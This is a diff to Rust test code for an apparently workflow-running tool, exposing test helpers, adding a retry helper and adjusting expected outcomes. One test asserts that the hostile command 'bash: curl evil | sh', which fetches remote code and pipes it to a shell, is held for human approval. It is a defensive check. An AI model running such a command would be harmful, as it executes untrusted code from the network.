@@ -11,10 +11,10 @@ use super::doubles::Outside;
 use super::generated::id;
 use super::kill::read;
 
-const END: usize = 99;
+pub(super) const END: usize = 99;
 
 /// A playbook of these steps, of which the first is the one with number 1 and the end has number 99.
-fn book(number: usize, steps: &[(&str, usize, Value)]) -> Value {
+pub(super) fn book(number: usize, steps: &[(&str, usize, Value)]) -> Value {
     let mut workflow = serde_json::Map::new();
     let (first, ..) = steps[0];
     workflow.insert(id("start", 98), json!({"type": "start", "on_completion": id(first, 1)}));
@@ -35,25 +35,30 @@ fn book(number: usize, steps: &[(&str, usize, Value)]) -> Value {
     })
 }
 
-fn own(text: &str) -> Value {
+pub(super) fn own(text: &str) -> Value {
     json!({"commands": [{"type": "stanch", "arguments": text.split(' ').collect::<Vec<_>>()}]})
 }
 
-fn with(mut step: Value, more: &Value) -> Value {
+pub(super) fn with(mut step: Value, more: &Value) -> Value {
     for (name, value) in more.as_object().expect("an object") {
         step[name] = value.clone();
     }
     step
 }
 
-fn stands(outside: &Outside) -> Standing {
+pub(super) fn stands(outside: &Outside) -> Standing {
     let lines = outside.lines.borrow();
     standing(&Routine::of(&lines).expect("a run"), &lines)
 }
 
-fn ran(outside: &Outside, document: &Value) -> Ending {
+pub(super) fn ran(outside: &Outside, document: &Value) -> Ending {
     outside.open(&read(document), &[], &[]);
     outside.run(None, Limits::USUAL).expect("no stop")
+}
+
+/// Lets a step that failed be tried again.
+pub(super) fn again(outside: &Outside, key: &str) {
+    outside.append(Entry::Resumed { by: "Ada".into(), again: Some(key.to_owned()) }).expect("a line");
 }
 
 #[test]
@@ -86,7 +91,7 @@ fn a_failure_takes_its_own_way_or_stops_the_run_until_it_is_tried_again() {
     assert_eq!((stopped.state, stopped.failed.as_slice()), (State::Stopped, ["2.1.1".to_owned()].as_slice()));
     assert_eq!(outside.run(None, Limits::USUAL), Ok(Ending::Stopped), "resuming alone tries nothing again");
     outside.fails.clear();
-    outside.append(Entry::Resumed { by: "Ada".into(), again: Some("2.1.1".into()) }).expect("a line");
+    again(&outside, "2.1.1");
     assert_eq!(outside.run(None, Limits::USUAL), Ok(Ending::Closed(Outcome::Succeeded)));
     assert_eq!(*outside.done.borrow(), ["gate", "reach", "gate", "report"]);
     assert_eq!(stands(&outside).state, State::Succeeded);
@@ -121,7 +126,7 @@ fn a_step_that_takes_too_long_has_failed_and_one_that_waits_is_late() {
         ],
     );
     let outside = Outside { endless: vec!["gate".into()], ..Outside::default() };
-    assert_eq!(ran(&outside, &document), Ending::Closed(Outcome::Succeeded));
+    assert_eq!(ran(&outside, &document), Ending::Flawed, "nothing is said for its failure but what comes next");
     assert_eq!(*outside.done.borrow(), ["reach"]);
     let first = stands(&outside).steps.swap_remove(0);
     let ended = first.ended.expect("an end");
@@ -155,7 +160,7 @@ fn scripts_and_calls_that_take_a_secret_or_that_a_person_is_to_make_are_left_to_
     assert!(outside.done.borrow().is_empty());
     let asked = outside.asked.borrow();
     assert_eq!((asked[0].asking, asked[0].what.as_str()), (Asking::ToRun, "bash: curl evil | sh"));
-    assert_eq!((asked[1].asking, asked[1].what.as_str()), (Asking::ToDo, "POST /hold"));
+    assert_eq!((asked[1].asking, asked[1].what.as_str()), (Asking::ToDo, "POST https://api.example/hold"));
     assert_eq!((asked[2].asking, asked[2].what.as_str()), (Asking::ToDo, "GET https://api.example/hold"));
 }
 
